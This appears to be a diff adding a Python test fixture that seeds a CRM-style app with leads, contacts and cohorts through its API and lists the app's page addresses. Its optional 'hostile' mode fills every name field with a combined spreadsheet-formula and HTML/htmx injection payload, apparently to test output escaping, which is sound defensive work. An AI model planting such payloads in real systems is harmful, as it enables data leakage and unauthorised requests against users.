@@ -1,0 +1,75 @@
+"""A small world that has something on every page, and the addresses of all pages in it.
+
+With `hostile` names whatever can carry a name has one that asks to be taken for markup and for a spreadsheet's formula.
+"""
+
+from collections.abc import Mapping
+from typing import Any
+
+import httpx
+
+HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'
+
+ADDRESSES: Mapping[str, str] = {
+    "home": "/",
+    "cohorts": "/cohorts",
+    "cohort": "/cohorts/{dynamic}",
+    "cohort-edited": "/cohorts/{dynamic}/edit",
+    "cohort-static": "/cohorts/{static}",
+    "cohort-progress": "/cohorts/{static}/progress",
+    "cohort-why": "/cohorts/{dynamic}/why?pii_id=lead-03",
+    "cohort-changes": "/cohorts/{dynamic}/changes",
+    "jobs": "/jobs",
+    "job": "/jobs/{job}",
+}
+"""Every page behind signing in, by the name of its picture. `{…}` is one of the world's ids."""
+
+PEOPLE = (
+    "Ada Novak", "Ben Osei", "Cleo Marsh", "Dag Lund", "Elif Kaya", "Farid Haddad", "Grace Kim", "Hugo Blanc",
+    "Inés Prado", "Jonas Weber", "Kaia Berg", "Liu Wen", "Maya Cohen", "Nour Said", "Olu Adeyemi", "Pia Rossi",
+)  # fmt: skip
+RULE = "lead.score > 50 and contact.country in ['US', 'FR', 'SE'] and not ('lost' in lead.tags)"
+
+
+async def build(api: httpx.AsyncClient, *, hostile: bool = False) -> dict[str, str]:
+    """Make it through the API; the ids that addresses name."""
+    for place, person in enumerate(PEOPLE):
+        await _put(api, f"lead-{place:02}", HOSTILE if hostile else person, place)
+    name = (lambda _: HOSTILE) if hostile else (lambda text: text)
+    dynamic = await _cohort(api, name("Hot leads"), description=name("Call today, the highest score first."), rule=RULE)
+    static = await _cohort(api, name("Spring offer"), description=name("As they were in March."), rule=RULE)
+    await _sent(api.patch(f"/v1/cohorts/{static}", json={"kind": "static"}))
+    await _cohort(api, name("Gone cold"), rule="lead.score < 20")
+    await _cohort(api, name("Hot, and in Sweden"), rule=f"$in_cohort('{dynamic}') and contact.country == 'SE'")
+    members = {"kind": "static", "members": ["lead-01", "lead-02"]}
+    await _sent(api.post("/v1/cohorts", json={"name": name("Advisory board"), **members}))
+    for place in range(2, 9):
+        await _sent(api.patch(f"/v1/leads/lead-{place:02}", json={"score": 30 if place % 2 else 75 + place}))
+    jobs = (await _sent(api.get("/v1/jobs"))).json()["items"]
+    return {"dynamic": dynamic, "static": static, "job": jobs[-1]["id"]}
+
+
+def addresses(world: Mapping[str, str]) -> dict[str, str]:
+    """Every page of this world, by name."""
+    return {name: address.format(**world) for name, address in ADDRESSES.items()}
+
+
+async def _put(api: httpx.AsyncClient, pii_id: str, name: str, place: int) -> None:
+    score = (place * 37) % 100
+    await _sent(
+        api.put(f"/v1/leads/{pii_id}", json={"name": name, "score": score, "source": "fair", "tags": ["spring"]})
+    )
+    email = f"{name.split(maxsplit=1)[0].lower()}@example.org" if name != HOSTILE else HOSTILE
+    country = ("US", "FR", "SE", "DE")[place % 4]
+    await _sent(api.put(f"/v1/contacts/{pii_id}", json={"name": name, "email": email, "country": country}))
+
+
+async def _cohort(api: httpx.AsyncClient, name: str, *, rule: str, description: str = "") -> str:
+    body: dict[str, Any] = {"name": name, "description": description, "kind": "dynamic", "rule": rule}
+    return str((await _sent(api.post("/v1/cohorts", json=body))).json()["id"])
+
+
+async def _sent(request: Any) -> httpx.Response:
+    answer: httpx.Response = await request
+    assert answer.is_success, answer.text
+    return answer
